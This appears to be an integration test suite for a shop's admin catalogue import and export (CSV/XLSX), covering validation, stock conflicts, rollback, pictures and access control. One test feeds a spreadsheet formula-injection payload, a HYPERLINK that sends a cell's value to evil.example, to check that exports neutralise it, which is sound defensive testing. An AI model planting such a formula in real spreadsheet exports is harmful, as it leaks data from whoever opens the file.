import { setTimeout as pause } from 'node:timers/promises';
import { and, eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { zipSync } from 'fflate';
import sharp from 'sharp';
import type { ImportJobStatus, ImportReport } from '@haat/shared/catalog/catalog-import';
import { products } from '../src/catalog/products.table.js';
import { stockMovements, productVariants } from '../src/inventory/inventory.table.js';
import { searchWords } from '../src/search/search-words.table.js';
import { api, bearer, DB_KINDS, startWithUsers, type TestApp } from './harness.js';
import { addCategory, addSubCategory, uniqueName } from './catalog-fixtures.js';

const HEADER = 'sku,product_sku,name,category,subcategory,brand,unit,option,price,discount,stock,stock_exported,hsn,gst_rate,description,pictures';

type Send = { file: Buffer | string; name?: string; pictures?: Buffer; lang?: string };

describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
  let t: TestApp, admin: string, customer: string, cat: { name: string }, sub: { name: string }, tag: string;
  beforeAll(async () => {
    ({ t, admin, customer } = await startWithUsers(kind));
    cat = await addCategory(t, admin, uniqueName('Atta'));
    const c = await addCategory(t, admin, uniqueName('Rice'));
    sub = await addSubCategory(t, admin, [c._id], uniqueName('Basmati'));
    tag = Date.now().toString(36).toUpperCase();
  });
  afterAll(() => t.close());

  const sku = (s: string) => `${s}-${tag}`.toUpperCase();
  const post = (query: string, { file, name = 'catalogue.csv', pictures, lang }: Send, token = admin) => {
    const req = api(t).post(`/api/admin/catalog/import${query}`).set(bearer(token));
    if (lang) void req.set('Accept-Language', lang);
    void req.attach('file', Buffer.from(file), name);
    if (pictures) void req.attach('pictures', pictures, 'pictures.zip');
    return req;
  };
  const dryRun = async (send: Send): Promise<ImportReport> => {
    const res = await post('?dryRun=1', send);
    expect(res.status).toBe(200);
    return res.body as ImportReport;
  };
  /** Applies a file and polls its job (any instance could answer it) until it is no longer running. */
  const applied = async (send: Send): Promise<ImportJobStatus> => {
    const res = await post('', send);
    expect(res.status).toBe(200);
    const { jobId } = res.body as { jobId: string };
    const deadline = Date.now() + 30_000;
    for (;;) {
      const status = await api(t).get(`/api/admin/catalog/import/${jobId}`).set(bearer(admin));
      expect(status.status).toBe(200);
      if ((status.body as ImportJobStatus).state !== 'running' || Date.now() > deadline) return status.body as ImportJobStatus;
      await pause(50);
    }
  };
  const csv = (...rows: string[]) => [HEADER, ...rows].join('\n');
  const productBySku = async (s: string) => (await t.db.select().from(products).where(eq(products.sku, s)))[0];
  const exported = async (format: 'csv' | 'xlsx') => {
    const res = await api(t)
      .get(`/api/admin/catalog/export?format=${format}`)
      .set(bearer(admin))
      .buffer(true)
      .parse((r, done) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => done(null, Buffer.concat(chunks)));
      });
    expect(res.status).toBe(200);
    return res.body as Buffer;
  };

  it('a dry run names each bad row by row and column and writes nothing; the good rows are counted', async () => {
    const file = csv(
      `${sku('ATTA')},,Whole wheat atta,${cat.name},,Haat,5 kg,,249.50,5,40,,1101,5,Stone ground,`,
      `${sku('ATTA-10')},${sku('ATTA')},,,,,,10 kg,479,,15,,,,,`,
      `${sku('RICE')},,Basmati rice,No such shelf,,,1 kg,,199,,10,,,7,,`,
      `${sku('OIL')},,Mustard oil,${cat.name},${sub.name},,1 l,,189.999,,10,,2106,5,,`,
      `${sku('OIL')},,Mustard oil again,${cat.name},,,1 l,,189,,10,,2106,5,,`,
      `${sku('GHEE')},,,${cat.name},,,500 g,,,,,,2106,5,,`,
    );
    const before = await t.db.select({ n: sql<number>`count(*)::int` }).from(products);
    const report = await dryRun({ file });
    expect(report).toMatchObject({ total: 6, creates: 2, updates: 0, unchanged: 0, conflicts: 0 });
    expect(report.errors).toEqual([
      { row: 4, column: 'hsn', message: 'is required for a new product' },
      { row: 4, column: 'category', message: '"No such shelf" is not a category of the shop' },
      { row: 4, column: 'gst_rate', message: 'must be a GST rate in force today (0, 0.25, 1.5, 3, 5, 18, 28, 40)' },
      { row: 5, column: 'sku', message: 'is in rows 5, 6: a SKU may be in one row only, so none of them is imported' },
      { row: 6, column: 'sku', message: 'is in rows 5, 6: a SKU may be in one row only, so none of them is imported' },
      { row: 7, column: 'name', message: 'is required for a new product' },
      { row: 7, column: 'price', message: 'is required for a new product' },
    ]);
    expect(await t.db.select({ n: sql<number>`count(*)::int` }).from(products)).toEqual(before);

    const hindi = await dryRun({ file, lang: 'hi-IN' });
    expect(hindi.errors[1]).toEqual({ row: 4, column: 'category', message: '"No such shelf" दुकान की कोई कैटेगरी नहीं है' });
  });

  it('a file without the sku column, or with a column it does not know, is refused at row 1', async () => {
    const report = await dryRun({ file: 'name,price,colour\nAtta,10,red' });
    expect(report.errors).toEqual([
      { row: 1, column: 'colour', message: 'is not a column of the catalogue file (see the template)' },
      { row: 1, column: 'sku', message: 'is a required column' },
    ]);
  });

  it('applies a file through the ledger (reason import), and the same file again changes nothing', async () => {
    const file = csv(
      `${sku('DAL')},,Toor dal,${cat.name},${sub.name},Haat,1 kg,,139,0,25,,0713,5,,`,
      `${sku('DAL-2')},${sku('DAL')},,,,,,2 kg,269,,8,,,,,`,
      `${sku('SALT')},,Rock salt,${cat.name},,,1 kg,,49,,30,,2106,5,,`,
    );
    const job = await applied({ file });
    expect(job).toMatchObject({ state: 'done', done: 3, total: 3, creates: 3, updates: 0, unchanged: 0, errors: [] });
    const dal = await productBySku(sku('DAL'));
    expect(dal).toMatchObject({ name: 'Toor dal', price: 139, hsn: '0713', gstRate: 5, moreDetails: { Brand: 'Haat' } });
    const reasons = await t.db
      .select({ reason: stockMovements.reason, delta: stockMovements.onHandDelta })
      .from(stockMovements)
      .innerJoin(productVariants, eq(productVariants.inventoryLevelId, stockMovements.inventoryLevelId))
      .where(eq(productVariants.productId, dal!.id));
    expect(new Set(reasons.map((r) => r.reason))).toEqual(new Set(['import']));

    expect(await dryRun({ file })).toMatchObject({ creates: 0, updates: 0, unchanged: 3, errors: [] });
    const again = await applied({ file });
    expect(again).toMatchObject({ state: 'done', creates: 0, updates: 0, unchanged: 3 });
    expect((await productBySku(sku('DAL')))!.updatedAt).toEqual(dal!.updatedAt);
  });

  it.each(['csv', 'xlsx'] as const)('an export (%s) imported again is all unchanged; an edited price is one update', async (format) => {
    await applied({ file: csv(`${sku(`RT-${format}`)},,Round trip ${format},${cat.name},,,1 pc,,99.5,10,7,,2106,5,"Has, a comma",`) });
    const file = await exported(format);
    const name = `catalogue.${format}`;
    const report = await dryRun({ file, name });
    expect(report).toMatchObject({ creates: 0, updates: 0, conflicts: 0, errors: [] });
    expect(report.unchanged).toBe(report.total);

    const edited = await editedPrice(file, format, sku(`RT-${format}`), '120');
    const job = await applied({ file: edited, name });
    expect(job).toMatchObject({ state: 'done', updates: 1, creates: 0, errors: [] });
    expect((await productBySku(sku(`RT-${format}`)))!.price).toBe(120);
  });

  it.each(['csv', 'xlsx'] as const)('a cell that would run as a formula is exported as text (%s) and read back as it was', async (format) => {
    const name = `=HYPERLINK("http://evil.example/?leak="&A1,"Atta ${format}")`;
    const sheetSku = sku(`FORMULA-${format}`);
    await applied({ file: csv(`${sheetSku},,"${name.replace(/"/g, '""')}",${cat.name},,@home,1 kg,,99,,5,,2106,5,-stone ground,`) });
    expect(await productBySku(sheetSku)).toMatchObject({ name, description: '-stone ground', moreDetails: { Brand: '@home' } });
    const file = await exported(format);
    const cells = await exportedRow(file, format, sheetSku);
    // A spreadsheet shows these as text: each starts with the guard's apostrophe, none with a formula's sign.
    expect(cells).toMatchObject({ name: `'${name}`, brand: "'@home", description: "'-stone ground" });
    expect(Object.values(cells).filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
    expect(await dryRun({ file, name: `catalogue.${format}` })).toMatchObject({ updates: 0, creates: 0, errors: [] });
    expect(await applied({ file, name: `catalogue.${format}` })).toMatchObject({ state: 'done', updates: 0, creates: 0 });
    expect(await productBySku(sheetSku)).toMatchObject({ name, description: '-stone ground', moreDetails: { Brand: '@home' } });
  });

  it('the words of imported products are searchable once their batch is written', async () => {
    const word = `kasuri${tag.toLowerCase().replace(/[^a-z]/g, '')}`;
    await applied({ file: csv(`${sku('METHI')},,${word} methi,${cat.name},,,100 g,,60,,5,,2106,5,,`) });
    const stem = sql`(tsvector_to_array(to_tsvector('english', ${word})))[1]`;
    const learnt = await t.db
      .select({ word: searchWords.word })
      .from(searchWords)
      .where(sql`${searchWords.word} = ${stem}`);
    expect(learnt).toHaveLength(1);
  });

  it('a stock that moved since the export is a conflict, and that row is not applied at all', async () => {
    await applied({ file: csv(`${sku('SUGAR')},,Sugar,${cat.name},,,1 kg,,45,,20,,2106,5,,`) });
    const p = await productBySku(sku('SUGAR'));
    // An order or an admin changes the stock after the export was taken (20 → 18).
    const moved = await api(t)
      .post('/api/product/admin/adjust-stock')
      .set(bearer(admin))
      .send({ productId: p!.id, variantId: null, stock: 18, expectedStock: 20 });
    expect(moved.status).toBe(200);
    const file = csv(`${sku('SUGAR')},,Sugar,${cat.name},,,1 kg,,50,,25,20,2106,5,,`);
    const report = await dryRun({ file });
    expect(report).toMatchObject({ conflicts: 1, updates: 0, errors: [] });
    expect(report.conflictRows).toEqual([{ row: 2, column: 'stock', message: expect.stringContaining('it is now 18, the file says 20') }]);
    const job = await applied({ file });
    expect(job).toMatchObject({ state: 'done', conflicts: 1, updates: 0 });
    expect((await productBySku(sku('SUGAR')))!.price).toBe(45);
    // With the figure it replaces, the new one is taken.
    expect(await applied({ file: csv(`${sku('SUGAR')},,Sugar,${cat.name},,,1 kg,,50,,25,18,2106,5,,`) })).toMatchObject({ updates: 1, conflicts: 0 });
  });

  it('a product whose write fails half-way keeps everything as it was', async () => {
    await applied({ file: csv(`${sku('TEA')},,Tea,${cat.name},,,250 g,,120,,10,,2106,5,,`) });
    // The database refuses the option's row: the product's own row was updated first, in the same transaction.
    await t.db.execute(sql.raw(`create or replace function refuse_boom() returns trigger language plpgsql as $$ begin raise exception 'refused'; end $$`));
    await t.db.execute(
      sql.raw(`create trigger refuse_boom before insert on product_variants for each row when (new.sku = '${sku('TEA-BOOM')}') execute function refuse_boom()`),
    );
    try {
      const job = await applied({
        file: csv(`${sku('TEA')},,Tea leaves,${cat.name},,,250 g,,130,,10,10,2106,5,,`, `${sku('TEA-BOOM')},${sku('TEA')},,,,,,1 kg,400,,,,,,,`),
      });
      expect(job).toMatchObject({
        state: 'done',
        updates: 0,
        creates: 0,
        skipped: 1,
        errors: [{ row: 2, column: 'sku', message: expect.stringContaining('could not be saved') }],
      });
    } finally {
      await t.db.execute(sql.raw('drop trigger refuse_boom on product_variants'));
      await t.db.execute(sql.raw('drop function refuse_boom()'));
    }
    expect(await productBySku(sku('TEA'))).toMatchObject({ name: 'Tea', price: 120 });
  });

  it('a file of many products (several written at once on PostgreSQL) writes each whole; a failing one alone is left out', async () => {
    const skus = Array.from({ length: 30 }, (_, i) => sku(`MANY-${i}`));
    await applied({ file: csv(...skus.slice(0, 10).map((s) => `${s},,Many ${s},${cat.name},,,1 kg,,10,,5,,2106,5,,`)) });
    await t.db.execute(sql.raw(`create or replace function refuse_many() returns trigger language plpgsql as $$ begin raise exception 'refused'; end $$`));
    await t.db.execute(
      sql.raw(
        `create trigger refuse_many before insert on product_variants for each row when (new.sku = '${sku('MANY-BOOM')}') execute function refuse_many()`,
      ),
    );
    try {
      const rows = skus.map((s, i) => `${s},,Many ${s},${cat.name},,,1 kg,,${i < 10 ? 11 : 10},,5,${i < 10 ? 5 : ''},2106,5,,`);
      rows.splice(20, 0, `${sku('MANY-BOOM')},${skus[19]},,,,,,2 kg,30,,1,,,,,`);
      const job = await applied({ file: csv(...rows) });
      expect(job).toMatchObject({ state: 'done', total: 31, updates: 10, creates: 19, skipped: 1 });
      expect(job.errors).toEqual([{ row: 21, column: 'sku', message: expect.stringContaining('could not be saved') }]);
    } finally {
      await t.db.execute(sql.raw('drop trigger refuse_many on product_variants'));
      await t.db.execute(sql.raw('drop function refuse_many()'));
    }
    const stored = await t.db
      .select({ sku: products.sku, price: products.price })
      .from(products)
      .where(sql`${products.sku} like ${`MANY-%-${tag}`}`);
    expect(stored.map((p) => p.sku).sort()).toEqual(skus.filter((_, i) => i !== 19).sort());
    expect(stored.filter((p) => p.price === 11)).toHaveLength(10);
  });

  it('pictures come from the ZIP by file name, stored by their content: the same ZIP again changes nothing', async () => {
    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#c0392b' } })
      .png()
      .toBuffer();
    const pictures = Buffer.from(zipSync({ 'shots/red.png': png, 'notes.txt': Buffer.from('not a picture') }));
    const file = csv(`${sku('JAM')},,Jam,${cat.name},,,200 g,,90,,5,,2106,5,,red.png`);
    const job = await applied({ file, pictures });
    expect(job).toMatchObject({ state: 'done', creates: 1 });
    const image = (await productBySku(sku('JAM')))!.image;
    expect(image).toEqual([expect.stringMatching(/^\/uploads\/pic[0-9a-f]{32}-large\.webp$/)]);
    expect((await api(t).get(image[0]!)).status).toBe(200);
    expect(await dryRun({ file, pictures })).toMatchObject({ unchanged: 1, errors: [] });
    const bad = await dryRun({
      file: csv(`${sku('JAM')},,Jam,${cat.name},,,200 g,,90,,5,,2106,5,,notes.txt`, `${sku('FIG')},,Figs,${cat.name},,,1 kg,,90,,5,,2106,5,,gone.png`),
      pictures,
    });
    expect(bad.errors).toEqual([
      { row: 2, column: 'pictures', message: '"notes.txt" is not a picture that can be read' },
      { row: 3, column: 'pictures', message: '"gone.png" is not in the pictures ZIP' },
    ]);
  });

  it('only administrators import, export or read a job', async () => {
    for (const token of [undefined, customer]) {
      const expected = token ? 403 : 401;
      const auth = token ? bearer(token) : {};
      expect((await api(t).get('/api/admin/catalog/export?format=csv').set(auth)).status).toBe(expected);
      expect((await api(t).get('/api/admin/catalog/import/template').set(auth)).status).toBe(expected);
      expect((await api(t).get('/api/admin/catalog/import/01UNKNOWN00000000000000000').set(auth)).status).toBe(expected);
      expect((await api(t).post('/api/admin/catalog/import?dryRun=1').set(auth).attach('file', Buffer.from(csv()), 'c.csv')).status).toBe(expected);
    }
    expect((await api(t).get('/api/admin/catalog/import/01UNKNOWN00000000000000000').set(bearer(admin))).status).toBe(404);
  });

  it('a file that cannot be read is a 4xx naming the problem, never a 500', async () => {
    const cases: Array<[Send | null, string]> = [
      [{ file: Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 1, 2, 3]), name: 'old.xls' }, 'file: is an old Excel file (.xls)'],
      [{ file: Buffer.from('PK\x03\x04 not really a workbook', 'latin1'), name: 'c.xlsx' }, 'file: could not be read as an Excel workbook (.xlsx)'],
      [{ file: Buffer.from([0xff, 0xfe, 0x00, 0x41]), name: 'c.csv' }, 'file: is neither an Excel workbook nor CSV in UTF-8'],
      [{ file: 'sku,name\n"ATTA,Atta' }, 'file: could not be read as CSV'],
      [{ file: '' }, 'file: is empty'],
      [{ file: csv(), pictures: Buffer.from('not a zip') }, 'pictures: could not be read as a ZIP file'],
      [null, 'file: send the catalogue as multipart/form-data'],
    ];
    for (const [send, message] of cases) {
      const res = send ? await post('?dryRun=1', send) : await api(t).post('/api/admin/catalog/import?dryRun=1').set(bearer(admin)).send({});
      expect([res.status, res.body.message]).toEqual([400, expect.stringContaining(message)]);
    }
    const template = await api(t).get('/api/admin/catalog/import/template?format=pdf').set(bearer(admin));
    expect([template.status, template.body.message]).toEqual([400, 'format: must be csv or xlsx']);
  });

  it('the template is a file the import reads (its atta under the shop’s grocery kind, not the first category)', async () => {
    await addCategory(t, admin, uniqueName('Books'));
    const res = await api(t).get('/api/admin/catalog/import/template?format=csv').set(bearer(admin)).buffer(true);
    const atta = res.text.split(/\r?\n/).find((l) => l.startsWith('ATTA-5KG,'));
    expect(atta).toContain(`,${cat.name},`);
    expect(res.status).toBe(200);
    expect(res.headers['content-disposition']).toContain('catalogue-template.csv');
    const report = await dryRun({ file: res.text });
    expect(report).toMatchObject({ total: 2 });
    expect(report.errors).toEqual([{ row: 2, column: 'pictures', message: '"atta.jpg" is not in the pictures ZIP' }]);
  });

  it('keeps the ledger honest: no product row is written for a dry run', async () => {
    const rows = await t.db
      .select({ n: sql<number>`count(*)::int` })
      .from(stockMovements)
      .where(and(eq(stockMovements.reason, 'import')));
    await dryRun({ file: csv(`${sku('NEW-ONLY')},,New only,${cat.name},,,1 pc,,10,,3,,2106,5,,`) });
    expect(
      await t.db
        .select({ n: sql<number>`count(*)::int` })
        .from(stockMovements)
        .where(eq(stockMovements.reason, 'import')),
    ).toEqual(rows);
    expect(await productBySku(sku('NEW-ONLY'))).toBeUndefined();
  });
});

/** The export with one product's price changed, in the same format (as a person would edit it in a spreadsheet). */
async function editedPrice(file: Buffer, format: 'csv' | 'xlsx', productSku: string, price: string): Promise<Buffer> {
  if (format === 'csv') {
    const lines = file.toString('utf8').split('\n');
    const header = lines[0]!.replace(/^\uFEFF/, '').split(',');
    const at = header.indexOf('price');
    return Buffer.from(
      lines
        .map((line) => {
          if (!line.startsWith(`${productSku},`)) return line;
          const cells = line.split(',');
          cells[at] = price;
          return cells.join(',');
        })
        .join('\n'),
    );
  }
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(file as unknown as ArrayBuffer);
  const sheet = book.worksheets[0]!;
  const header = (sheet.getRow(1).values as unknown[]).map(String);
  sheet.eachRow((row) => {
    if (row.getCell(1).value === productSku) row.getCell(header.indexOf('price')).value = Number(price);
  });
  return Buffer.from(await book.xlsx.writeBuffer());
}

/** One product's row of an export, its cells by column, as a spreadsheet holds them. */
async function exportedRow(file: Buffer, format: 'csv' | 'xlsx', productSku: string): Promise<Record<string, unknown>> {
  let rows: unknown[][];
  if (format === 'csv') rows = parse(file, { bom: true, relax_column_count: true });
  else {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file as unknown as ArrayBuffer);
    rows = [];
    book.worksheets[0]!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  }
  const header = rows[0]!.map(String);
  const row = rows.find((r) => r[0] === productSku)!;
  return Object.fromEntries(header.map((h, i) => [h, row[i]]));
}
